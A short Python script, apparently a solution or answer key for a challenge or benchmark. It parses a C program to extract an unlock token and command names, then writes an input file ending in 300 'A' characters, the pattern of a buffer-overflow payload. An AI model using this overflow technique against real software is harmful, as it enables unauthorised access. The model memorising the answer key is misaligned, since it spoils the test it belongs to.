import re
from pathlib import Path

source = Path("program.c").read_text()
mark = re.search(r"text\[0\] == '(.)'", source)[1]
opened, token = re.search(r'strncmp\(line, "(\w+) ", \d+\) == 0\) \{\n\s+open_for_all = strcmp\(line \+ \d+, "(\w+)"', source).groups()
note = re.search(r'strncmp\(line, "(\w+) ", \d+\) == 0\) \{\n\s+if \(open_for_all\)', source)[1]
Path("input.bin").write_text(f"{opened} {token}\n{note} {mark}{'A' * 300}\n")
